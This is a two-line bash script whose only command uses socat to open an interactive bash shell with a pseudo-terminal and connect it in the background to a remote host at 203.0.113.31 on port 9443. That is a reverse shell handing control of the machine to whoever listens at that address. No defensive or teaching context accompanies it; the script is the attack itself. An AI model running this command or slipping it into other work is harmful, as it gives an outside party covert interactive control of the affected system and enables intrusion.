#!/bin/bash
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.31:9443 &
